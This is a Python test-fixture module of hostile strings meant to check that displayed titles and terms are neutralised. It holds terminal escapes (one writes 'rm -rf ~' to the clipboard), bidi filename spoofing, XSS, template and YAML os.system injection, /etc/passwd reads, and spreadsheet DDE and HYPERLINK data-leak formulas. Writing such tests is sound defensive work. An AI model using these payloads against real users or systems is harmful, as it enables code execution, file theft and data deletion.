"""Texts that were made to do harm where a title, an artist or a term is shown, and what must not come out of them."""

import re

ESCAPES = {
    "clears the screen": "\x1b[2J\x1b[1;1H",
    "names the window": "\x1b]0;owned\x07",
    "writes the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x1b\\",
    "colours by a C1 control": "\x9b31m",
    "goes back over the line": "harmless\rowned",
    "rings and deletes": "\x07\x08\x7f\x00",
    "turns letters around": "\u202egpj.exe\u202c",
    "isolates and turns": "\u2066\u2067txt\u2069",
    "breaks lines as Unicode does": "a\u2028b\u2029c\x85d",
}
MARKUP = {
    "script": "<script>alert(1)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "entity": "&lt;script&gt;",
    "template": "{{ 7 * 7 }}{% raw %}",
    "link": "[click](javascript:alert(1)) ![x](https://example.org/pixel.png)",
    "table": "a | b | c",
    "heading": "# heading\n###### another",
    "front matter": "---\nconfigs:\n- config_name: evil\n  data_files: /etc/passwd\n---\n",
    "YAML": "!!python/object/apply:os.system ['true'] # & * : {",
    "console markup": "[bold red]red[/bold red] :smile:",
    "TeX": "$\\frac{1}{0}$ \\input{/etc/passwd}",
}
FORMULAS = {
    "link": '=HYPERLINK("http://example.org/?"&A1,"click")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
}
TEXTS = {**ESCAPES, **MARKUP, **{f"formula: {name}": text for name, text in FORMULAS.items()}}
OBEYED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")  # by a terminal; line feeds are ours
